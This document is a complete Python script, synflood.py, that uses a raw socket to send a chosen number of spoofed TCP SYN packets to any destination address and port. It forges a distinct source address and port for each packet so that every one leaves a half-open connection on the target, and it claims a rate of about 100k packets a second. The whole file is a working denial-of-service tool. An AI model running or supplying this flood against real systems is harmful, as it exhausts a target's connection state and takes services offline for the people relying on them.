#!/usr/bin/python3
"""Sends N spoofed TCP SYNs to DST:PORT through a raw socket, each from its own (source,
source port) pair in 198.18.128.0/17, so every SYN opens its own half-open flow. Prints
"sent N". Usage: synflood.py DST PORT N. Plain struct and one socket: ~100k SYNs a second."""
import socket
import struct
import sys


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    return ~(s + (s >> 16)) & 0xFFFF


def main():
    dst_s, dport, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    dst = socket.inet_aton(dst_s)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    sent = 0
    for i in range(n):
        s = i % 32768
        src = bytes([198, 18, 128 + (s >> 8), s & 255])
        sport = 10000 + i // 32768
        tcp = struct.pack("!HHIIBBHHH", sport, dport, i, 0, 5 << 4, 0x02, 65535, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0,
                         src, dst)
        while True:
            try:
                sock.sendto(ip + tcp, (dst_s, 0))
                break
            except BlockingIOError:
                continue
            except OSError as e:  # ENOBUFS: the device queue is full for a moment
                if e.errno != 105:
                    raise
        sent += 1
    print("sent", sent)


if __name__ == "__main__":
    main()
